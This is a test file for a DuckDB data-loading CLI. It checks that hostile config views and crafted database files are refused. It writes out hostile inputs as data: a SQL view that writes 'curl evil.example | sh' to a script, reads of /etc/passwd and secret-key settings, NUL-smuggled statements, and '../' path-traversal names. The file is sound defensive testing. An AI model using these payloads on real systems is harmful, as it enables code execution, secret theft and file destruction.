/**
 * Hostile configs and hostile DuckDB files (issue #11, items 5 and 6): a config's `views` may be
 * nothing but one read-only SELECT, names may not be paths or bookkeeping tables, and `export`
 * writes and removes only inside `--to`, whatever names a file someone else made holds.
 *
 * Every refused config must exit 2 from `validate` and from `run` before any request is sent or
 * database file created, naming the config path and what is refused.
 */
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { checkConfigViews } from "../../src/load/view_sql.ts";
import { openDatabase } from "../../src/load/db.ts";
import { queryDb, runCli, SEED_ENV, seedConfig, testEnv, writeConfig, type TestEnv } from "../helpers/index.ts";
import type { ChatApi } from "../../src/demo/chat_api.ts";

/** One env for the file: its chat API is only counted, never changed, and each test works in a folder of its own inside. */
let tmp: TestEnv;
let api: ChatApi;
before(async () => {
  tmp = await testEnv({ chat: { messages: 30 } });
  api = tmp.chat;
});
after(() => tmp?.[Symbol.asyncDispose]());

/** The seed config with `patch` applied to its top level and first resource. */
function config(patch: { views?: Record<string, string>; resource?: Record<string, unknown> } = {}): Record<string, unknown> {
  const c = seedConfig(api.url) as Record<string, unknown> & { resources: Record<string, unknown>[] };
  if (patch.views) c.views = patch.views;
  if (patch.resource) c.resources[0] = { ...c.resources[0], ...patch.resource };
  return c;
}

/** Runs validate and run on `cfg` in a fresh folder; both must exit 2 with `expect`, and nothing may be touched. */
async function refused(cfg: unknown, expect: RegExp, file = "bad.json"): Promise<{ dir: string; stderr: string }> {
  const dir = join(tmp.dir, `case-${Math.random().toString(36).slice(2)}`);
  mkdirSync(dir);
  writeConfig(dir, cfg, file);
  const before = api.requests.length;
  const validate = await runCli(["validate", file], { cwd: dir, env: SEED_ENV });
  assert.equal(validate.code, 2, validate.stdout + validate.stderr);
  assert.match(validate.stderr, expect);
  assert.doesNotMatch(validate.stdout, /is valid/);
  const run = await runCli(["run", file, "--db", "out.duckdb"], { cwd: dir, env: SEED_ENV });
  assert.equal(run.code, 2, run.stderr);
  assert.match(run.stderr, expect);
  assert.equal(api.requests.length, before, "no request was sent");
  assert.ok(!existsSync(join(dir, "out.duckdb")), "no database was created");
  return { dir, stderr: run.stderr };
}

describe("a view is one read-only SELECT", () => {
  test("COPY … TO that writes a shell script is refused by validate and run, and no file is written", async () => {
    const { dir } = await refused(
      config({ views: { evil: "select 1; copy (select 'curl evil.example | sh') to 'pwned.sh' (header false)" } }),
      /views\.evil: not a SELECT: a view is one read-only SELECT/,
    );
    assert.ok(!existsSync(join(dir, "pwned.sh")));
  });

  test("ATTACH and CREATE of another database are refused, and no database file appears", async () => {
    const { dir } = await refused(
      config({ views: { a: "select 1", b: "attach 'other.duckdb' as o; create table o.t as select 1" } }),
      /views\.b: not a SELECT/,
    );
    assert.deepEqual(readdirSync(dir).sort(), ["bad.json"]);
  });

  test("read_text, read_csv in a CTE and a file named as a table are refused, each naming its view", async () => {
    const { stderr } = await refused(
      config({
        views: {
          passwd: "select * from read_text('/etc/passwd')",
          cte: "with x as (select * from read_csv('/etc/hosts')) select * from x",
          bare: "select * from '/etc/hosts.csv'",
          url: "select * from read_parquet('http://127.0.0.1:9/x.parquet')",
        },
      }),
      /views\.passwd: table function read_text\(\) is not allowed/,
    );
    assert.match(stderr, /views\.cte: table function read_csv\(\) is not allowed/);
    assert.match(stderr, /views\.bare: "\/etc\/hosts\.csv" reads a file or URL/);
    assert.match(stderr, /views\.url: table function read_parquet\(\) is not allowed/);
    assert.match(stderr, /hint: a view is one SELECT over the loaded tables and views/);
  });

  test("settings, secrets and query strings are out of reach of a view", async () => {
    const { stderr } = await refused(
      config({
        views: {
          setting: "select current_setting('s3_secret_access_key') as k",
          secrets: "select * from duckdb_secrets()",
          q: "select * from query('select 1')",
          qt: "select * from chat_messages, query_table('chat_messages')",
          ext: "select http_get('http://127.0.0.1:9/')",
          nul: "select 1 as x\u0000; copy (select 1) to 'pwned.sh'",
        },
      }),
      /views\.setting: function current_setting\(\) is not allowed/,
    );
    assert.match(stderr, /views\.secrets: table function duckdb_secrets\(\) is not allowed/);
    assert.match(stderr, /views\.q: table function query\(\) is not allowed/);
    assert.match(stderr, /views\.qt: table function query_table\(\) is not allowed/);
    assert.match(stderr, /views\.ext: function http_get\(\) is not a DuckDB built-in/);
    assert.match(stderr, /views\.nul: it contains a NUL character/);
  });

  test("ordinary analysis SQL passes: joins, CTEs, window functions, unnest, range, string and date functions, views on views", async () => {
    await checkConfigViews({
      daily: "with m as (select * from chat_messages) select date_trunc('day', timestamp::timestamp) as day, channel, count(*) as n from m group by all order by all",
      ranked: "select sender_id, row_number() over (partition by channel order by id desc) as rn, lag(id) over w as prev, sum(id) filter (where id > 2) over w from chat_messages window w as (order by id)",
      joined: "select r.*, m.channel from chat_messages__reactions r join chat_messages m on r.chat_messages_id = m.id left join daily d using (channel)",
      lists: "select unnest([1, 2]) as x, list_transform([1], y -> y + 1), regexp_extract(channel, '^(\\w+)') , upper(channel) || '!' from chat_messages, range(2) r(i)",
      series: "select * from generate_series(1, 3) g(i) union all select 4 order by 1",
    });
    const dir = join(tmp.dir, "good");
    mkdirSync(dir);
    writeConfig(dir, config({ views: { per_sender: "select sender_id, count(*) as n from chat_messages group by 1", top: "select * from per_sender order by n desc limit 1" } }), "good.json");
    const validate = await runCli(["validate", "good.json"], { cwd: dir, env: SEED_ENV });
    assert.equal(validate.code, 0, validate.stderr);
    assert.match(validate.stdout, /  view per_sender: one read-only SELECT\n  view top: one read-only SELECT\n/);
    const run = await runCli(["run", "good.json", "--db", "good.duckdb"], { cwd: dir, env: SEED_ENV });
    assert.equal(run.code, 0, run.stderr);
    const [row] = await queryDb<{ n: number }>(join(dir, "good.duckdb"), "select sum(n)::INT as n from per_sender");
    assert.equal(row.n, 30);
    assert.equal((await queryDb(join(dir, "good.duckdb"), "select * from top")).length, 1);
  });
});

describe("names that would be paths or bookkeeping are refused at config time", () => {
  test("a resource named ../../victim is refused by validate and run", async () => {
    await refused(config({ resource: { name: "../../victim" } }), /resources\[0\]\.name: "\.\.\/\.\.\/victim" has a path separator/);
  });

  test("table_name _dlt_loads (any spelling) and a resource named _restduck_runs are refused", async () => {
    await refused(config({ resource: { table_name: "_dlt_loads" } }), /resources\[0\]\.table_name: "_dlt_loads" is a bookkeeping name/);
    await refused(config({ resource: { table_name: "_DLT-Loads" } }), /resources\[0\]\.table_name: "_DLT-Loads" is a bookkeeping name/);
    await refused(config({ resource: { name: "_restduck_runs" } }), /resources\[0\]\.name: "_restduck_runs" is a bookkeeping name/);
  });

  test("a config view named like a bookkeeping view is refused", async () => {
    await refused(config({ views: { _restduck_runs: "select 1 as x" } }), /views\._restduck_runs: "_restduck_runs" is a bookkeeping name/);
  });
});

describe("export writes and removes only inside --to", () => {
  /** A DuckDB file as someone else could make it: a dataset, and views with the given names in main. */
  async function craftedDb(dir: string, views: Record<string, string>): Promise<string> {
    const path = join(dir, "crafted.duckdb");
    const db = await openDatabase(path);
    try {
      await db.run(`CREATE SCHEMA ds; CREATE TABLE ds._dlt_version (version BIGINT); CREATE TABLE ds.items AS SELECT i AS id, 'c' || (i % 2) AS channel FROM range(4) r(i)`);
      for (const [name, sql] of Object.entries(views)) await db.run(`CREATE VIEW main."${name.replace(/"/g, '""')}" AS ${sql}`);
    } finally {
      db.close();
    }
    return path;
  }

  test("a crafted file's view named ../victim neither writes nor empties a folder outside --to", async () => {
    const dir = join(tmp.dir, "crafted");
    mkdirSync(join(dir, "victim"), { recursive: true });
    writeFileSync(join(dir, "victim", "keep.txt"), "precious");
    await craftedDb(dir, { "../victim": "SELECT * FROM ds.items", items: "SELECT * FROM ds.items" });
    for (const extra of [[], ["--partition-by", "channel"]]) {
      const res = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", ...extra], { cwd: dir });
      assert.equal(res.code, 1, res.stderr);
      assert.match(res.stderr, /Refusing to export "\.\.\/victim" from crafted\.duckdb: the name is not a plain file name/);
      assert.match(res.stderr, /hint: .*--only/);
      assert.deepEqual(readdirSync(join(dir, "victim")), ["keep.txt"]);
      assert.equal(readFileSync(join(dir, "victim", "keep.txt"), "utf8"), "precious");
      assert.ok(!existsSync(join(dir, "victim.parquet")));
    }
    // A dataset (schema) name is a folder with --tables: the same rule holds.
    const db = await openDatabase(join(dir, "crafted.duckdb"));
    try {
      await db.run(`CREATE SCHEMA "../escape"; CREATE TABLE "../escape"._dlt_version (version BIGINT); CREATE TABLE "../escape".t AS SELECT 1 AS id`);
    } finally {
      db.close();
    }
    const tables = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--tables"], { cwd: dir });
    assert.equal(tables.code, 1, tables.stderr);
    assert.match(tables.stderr, /Refusing to export "\.\.\/escape" from crafted\.duckdb/);
    assert.ok(!existsSync(join(dir, "escape")));
    // The other views still export, by name.
    const only = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--only", "items", "--partition-by", "channel"], { cwd: dir });
    assert.equal(only.code, 0, only.stderr);
    assert.deepEqual(readdirSync(join(dir, "lake", "items")).sort(), ["channel=c0", "channel=c1"]);
  });

  test("a crafted view that reads a file outside the database is refused by DuckDB during export", async () => {
    const dir = join(tmp.dir, "crafted-read");
    mkdirSync(dir);
    writeFileSync(join(dir, "secret.txt"), "top secret");
    await craftedDb(dir, { leak: `SELECT content FROM read_text('${join(dir, "secret.txt")}')` });
    const res = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--format", "csv"], { cwd: dir });
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /leak was not exported: it reads a file or URL outside the database/);
    assert.ok(!existsSync(join(dir, "lake", "leak.csv")) || !readFileSync(join(dir, "lake", "leak.csv"), "utf8").includes("top secret"));
  });

  test("export after a partitioned export replaces what it wrote, and only that", async () => {
    const dir = join(tmp.dir, "repartition");
    mkdirSync(dir);
    await craftedDb(dir, { items: "SELECT * FROM ds.items" });
    const first = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--partition-by", "channel"], { cwd: dir });
    assert.equal(first.code, 0, first.stderr);
    assert.deepEqual(readdirSync(join(dir, "lake", "items")).sort(), ["channel=c0", "channel=c1"]);
    // Someone else's file next to ours stays.
    writeFileSync(join(dir, "lake", "notes.txt"), "mine");
    const second = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake"], { cwd: dir });
    assert.equal(second.code, 0, second.stderr);
    assert.ok(!existsSync(join(dir, "lake", "items")), "the old partition folders are gone");
    assert.deepEqual(readdirSync(join(dir, "lake")).filter((f) => !f.startsWith(".")).sort(), ["items.parquet", "notes.txt"]);
    const [row] = await queryDb<{ n: number }>(join(dir, "crafted.duckdb"), `select count(*)::INT as n from read_parquet('${join(dir, "lake", "items.parquet")}')`);
    assert.equal(row.n, 4);
    // And back: the single file goes, partitions come.
    const third = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--partition-by", "channel"], { cwd: dir });
    assert.equal(third.code, 0, third.stderr);
    assert.ok(!existsSync(join(dir, "lake", "items.parquet")));
    assert.deepEqual(readdirSync(join(dir, "lake", "items")).sort(), ["channel=c0", "channel=c1"]);
  });

  test("a partition folder holding files export did not write is left alone, with an error that says so", async () => {
    const dir = join(tmp.dir, "foreign");
    mkdirSync(join(dir, "lake", "items", "channel=old"), { recursive: true });
    writeFileSync(join(dir, "lake", "items", "channel=old", "data_0.parquet"), "not ours");
    await craftedDb(dir, { items: "SELECT * FROM ds.items" });
    const res = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--partition-by", "channel"], { cwd: dir });
    assert.equal(res.code, 2, res.stderr);
    assert.match(res.stderr, /lake\/items\/ holds 1 file restduck did not write \(lake\/items\/channel=old\/data_0\.parquet\)/);
    assert.equal(readFileSync(join(dir, "lake", "items", "channel=old", "data_0.parquet"), "utf8"), "not ours");
  });

  test("a symlink inside --to that leads out of it is not written through", async () => {
    const dir = join(tmp.dir, "symlinked");
    mkdirSync(join(dir, "victim"), { recursive: true });
    writeFileSync(join(dir, "victim", "keep.txt"), "precious");
    await craftedDb(dir, { items: "SELECT * FROM ds.items" });
    mkdirSync(join(dir, "lake"));
    symlinkSync(join(dir, "victim"), join(dir, "lake", "items"));
    const res = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake", "--partition-by", "channel"], { cwd: dir });
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /Refusing to write or remove .*items: it is outside --to lake/);
    assert.deepEqual(readdirSync(join(dir, "victim")), ["keep.txt"]);
  });

  test("a tampered export record cannot make export remove a file outside --to", async () => {
    const dir = join(tmp.dir, "tampered");
    mkdirSync(dir);
    writeFileSync(join(dir, "keep.txt"), "precious");
    await craftedDb(dir, { items: "SELECT * FROM ds.items" });
    mkdirSync(join(dir, "lake"));
    writeFileSync(join(dir, "lake", ".restduck-export.json"), JSON.stringify({ files: { items: ["../keep.txt"] } }));
    const res = await runCli(["export", "--db", "crafted.duckdb", "--to", "lake"], { cwd: dir });
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /Refusing to write or remove .*keep\.txt: it is outside --to lake/);
    assert.equal(readFileSync(join(dir, "keep.txt"), "utf8"), "precious");
  });
});

test("validate and run say plainly that a TS config runs code when loaded", async () => {
  const dir = join(tmp.dir, "ts");
  mkdirSync(dir);
  writeFileSync(join(dir, "evil.ts"), `export default ${JSON.stringify(config())};\n`);
  const res = await runCli(["validate", "evil.ts"], { cwd: dir, env: SEED_ENV });
  assert.equal(res.code, 0, res.stderr);
  assert.match(res.stderr, /^warning: evil\.ts is a TS module: loading it runs its code with your permissions; use JSON or YAML for a config you did not write\n$/);
  const run = await runCli(["run", "evil.ts", "--db", "ts.duckdb", "--quiet"], { cwd: dir, env: SEED_ENV });
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.stderr.match(/warning: evil\.ts is a TS module: loading it runs its code/g)?.length, 1, run.stderr);
  const help = await runCli(["validate", "--help"], { cwd: dir });
  assert.match(help.stdout + help.stderr, /a module: loading it runs its code/);
});
